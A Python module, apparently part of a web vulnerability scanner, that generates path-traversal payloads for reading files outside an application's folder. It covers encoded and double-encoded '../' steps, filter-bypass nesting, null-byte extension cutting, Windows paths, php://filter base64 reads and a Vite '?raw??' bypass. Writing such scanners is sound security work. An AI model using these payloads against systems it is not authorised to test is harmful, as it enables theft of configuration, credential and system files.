"""Payloads of `ptrav`: ways to name a file outside of the folder that a value is looked up in.

In a pattern `{up}` stands for enough steps up, `{file}` for the file's path without its first slash, `{value}` for the
baseline's value, `{folder}` for the folder in it with its slash, `{suffix}` for its extension with the dot, `{unlike}` for a
letter where the value has one: no file but a folder, or what is not there, can be left again. What is sent
through a query or a form is percent-encoded once on its way, so a percent sign here arrives as one after decoding.
"""

import re
from collections.abc import Sequence
from functools import lru_cache
from typing import NamedTuple

# The folders of packages and of what is built lie deep, and steps above the topmost folder lead nowhere.
LEVELS = 16
# A part of a path has 255 letters at most (NAME_MAX): where nothing takes steps for steps, all of them are one part with the file.
_MOST_LETTERS = 180


class Step(NamedTuple):
    """A way up. name: for people. up: one step up. pattern: the whole value; `{file}` has its slashes as `slash`."""

    name: str
    up: str
    pattern: str = "{up}{file}"
    slash: str = "/"


RELATIVE = Step("relative", "../")
ABSOLUTE = Step("absolute", "", "/{file}")
# What takes `../` out once leaves `../`.
NESTED = Step("relative, survives a filter that takes out ../ once", "....//")
ENCODED = Step("relative, encoded", "..%2f", slash="%2f")
ENCODED_DOTS = Step("relative, dots encoded", "%2e%2e/")
# Dots as well, for those who look for two of them before they decode.
ALL_ENCODED = Step("relative, all encoded", "%2e%2e%2f", slash="%2f")
DOUBLE_ENCODED = Step("relative, encoded twice", "..%252f", slash="%252f")
ALL_DOUBLE_ENCODED = Step("relative, all encoded twice", "%252e%252e%252f", slash="%252f")
IN_FOLDER = Step("relative, begins with the folder", "../", "{folder}{up}{file}")
BEHIND_VALUE = Step("relative, begins with the value", "../", "{value}{unlike}/{up}{file}")
# Past those who refuse what begins with two dots, and where no file but a folder can be left again.
BEHIND_A_DOT = Step("relative, begins with its own folder", "../", "./{up}{file}")
SUFFIX_CUT = Step("relative, the extension cut off by a null byte", "../", "{up}{file}\0{suffix}")
ADDRESS = Step("as an address", "", "file:///{file}")
BACKSLASHED = Step("relative, Windows", "..\\", slash="\\")
DRIVE = Step("absolute, Windows", "", "C:\\{file}", slash="\\")
BACKSLASHED_MIXED = Step("relative, Windows with slashes", "../")

# Servers of development hand a module out as its text where the query asks so, and one guard looks at the query's end
# (Vite: CVE-2025-30208).
AS_MODULE = Step("relative, as the text of a module", "../", "{up}{file}?raw??")

# For a value that was seen to be, or by its look is, the name of a file.
FOR_FILES = (
    RELATIVE,
    ABSOLUTE,
    NESTED,
    ALL_ENCODED,
    ALL_DOUBLE_ENCODED,
    BEHIND_VALUE,
    ADDRESS,
    BACKSLASHED,
)
# Of these, what passes a filter that knows plain steps up.
FOR_FILTERS = (NESTED, ALL_ENCODED, ALL_DOUBLE_ENCODED, IN_FOLDER, BEHIND_VALUE)
FOR_TEXTS = (RELATIVE, ABSOLUTE, NESTED)
FOR_NUMBERS = (RELATIVE,)
FOR_WINDOWS = (BACKSLASHED, DRIVE, BACKSLASHED_MIXED)
# For a folder that is listed, by its name and by the raw target.
OF_FOLDERS = (RELATIVE,)
OF_LISTINGS = (RELATIVE, ENCODED_DOTS)
# The raw target: servers and proxies that hand files out themselves; where it ends as the name of a file does, also those
# that take steps out once.
FOR_TARGETS = (RELATIVE, ENCODED_DOTS, ENCODED, DOUBLE_ENCODED)
FOR_FILE_TARGETS = (*FOR_TARGETS, NESTED)
# How modules are asked for of such a server.
_MODULE = re.compile(r"/@(?:fs|id|vite)/|[^?]*\?(?:[^#]*&)?import(?:[&=]|$)")


def at_last(steps: Sequence[Step], *, read_on: bool = False) -> tuple[Step, ...]:
    """What is sent behind all else where these ways were tried: some programs end over a null byte, and answer nothing more.

    read_on: whether what a value begins with is refused that stands behind it without being refused.
    """
    if not set(FOR_FILES) - {ADDRESS} <= set(steps):
        return ()
    return (BEHIND_A_DOT, SUFFIX_CUT) if read_on else (SUFFIX_CUT,)


def for_target(target: str) -> tuple[Step, ...]:
    """The ways worth trying for a target."""
    steps = FOR_FILE_TARGETS if _FILE.fullmatch(target.partition("?")[0]) else FOR_TARGETS
    return (*steps, AS_MODULE) if _MODULE.match(target) else steps


def fill(step: Step, file: str, value: str, extra: int = 0) -> str:
    """The value that asks for a file. extra: more steps up than usual, which lead to the same place."""
    folder, slash, name = value.rpartition("/")
    _, dot, extension = name.rpartition(".")
    levels = min(LEVELS, _MOST_LETTERS // max(len(step.up), 1))
    return step.pattern.format(
        up=step.up * (levels + extra),
        file=file.lstrip("/").replace("/", step.slash),
        value=value,
        folder=folder + slash,
        suffix=dot + extension if dot else "",
        unlike="x" if dot else "",
    )


def filtered(value: str, times: int) -> str:
    """The value's own file through PHP's filters, encoded so many times: it is read, never run (the manual, php://filter)."""
    return f"php://filter/{'|'.join(['convert.base64-encode'] * times)}/resource={value}"


_FILE_NAMED = re.compile(
    r"file|path|dir|folder|doc|page|templ|include|download|upload|attach|image|img|photo|picture|avatar|logo|report|log"
    r"|lang|locale|theme|style|script|view|layout|module|config|conf|export|import|backup|asset|resource|src",
    re.IGNORECASE,
)
_FOLDER_NAMED = re.compile(r"dir|folder|path|location|catalog|album|gallery|browse|^ls$|^list$", re.IGNORECASE)
_THIS_FOLDER = frozenset({".", "./", "/"})
# What a link that writes, deletes or hands out once is called; what is written to is read elsewhere.
_WRITES = re.compile(
    r"delet|remov|unlink|erase|purge|destroy|writ|save|creat|rename|move|clear|truncat|append|wipe|trash"
    r"|discard|(?<![a-z])(?:rm(?:dir|tree)?|once|pop|drain|(?:de)?queue|spool|consume)(?![a-z])",
    re.IGNORECASE,
)
_FILE = re.compile(r".*\w\.\w{1,5}", re.DOTALL)
_ADDRESS = re.compile(r"[a-z][a-z0-9+.-]*://", re.IGNORECASE)


def is_named_for_files(parameter: str) -> bool:
    """Whether a parameter by its name holds a file's name."""
    return _FILE_NAMED.search(parameter) is not None


def may_name_a_folder(parameter: str, value: str) -> bool:
    """Whether a value may name a folder: the one that it is looked up in, or by its parameter, and by having no extension."""
    if value in _THIS_FOLDER:
        return True
    is_file = _FILE.fullmatch(value) is not None or is_address(value)
    return _FOLDER_NAMED.search(parameter) is not None and not is_file


@lru_cache(64)  # asked of each answer, about the few places of a few baselines
def tells_of_writing(words: str) -> bool:
    """Whether an address or a parameter tells by its words that something is written or deleted."""
    return _WRITES.search(words) is not None


def is_address(value: str) -> bool:
    """Whether a value begins as an address does, with a scheme."""
    return _ADDRESS.match(value) is not None
